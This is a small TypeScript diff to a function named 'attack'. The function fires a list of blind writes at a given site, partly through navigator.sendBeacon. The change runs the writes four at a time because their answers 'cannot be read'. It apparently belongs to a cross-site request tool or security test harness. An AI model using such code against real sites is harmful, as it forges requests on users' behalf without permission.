@@ -116,7 +116,12 @@ async function attack({ site, all }: { site: string; all: readonly Write[] }): P
       if (navigator.sendBeacon(url, new Blob([text], { type }))) count('beacon')
     }
   }
-  for (const write of all) await one(write)
+  // Most of it is waiting for answers that cannot be read, so several are sent at once.
+  const waiting = all.values()
+  const work = async (): Promise<void> => {
+    for (const write of waiting) await one(write)
+  }
+  await Promise.all([work(), work(), work(), work()])
   return sent
 }
 
